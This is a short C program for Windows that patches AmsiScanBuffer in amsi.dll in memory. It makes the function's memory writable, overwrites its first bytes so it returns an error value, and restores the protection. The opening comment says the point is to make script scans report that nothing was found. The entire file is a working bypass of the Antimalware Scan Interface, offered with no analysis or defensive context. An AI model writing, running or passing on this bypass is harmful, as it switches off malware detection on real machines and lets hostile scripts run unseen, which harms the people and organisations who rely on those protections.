/* Has the scan of scripts say that nothing was found. */
#include <windows.h>
int main(void) {
    DWORD old;
    unsigned char *place = (unsigned char *)GetProcAddress(LoadLibraryA("amsi.dll"), "AmsiScanBuffer");
    VirtualProtect(place, 6, PAGE_EXECUTE_READWRITE, &old);
    CopyMemory(place, "\xB8\x57\x00\x07\x80\xC3", 6);
    VirtualProtect(place, 6, old, &old);
    return 0;
}
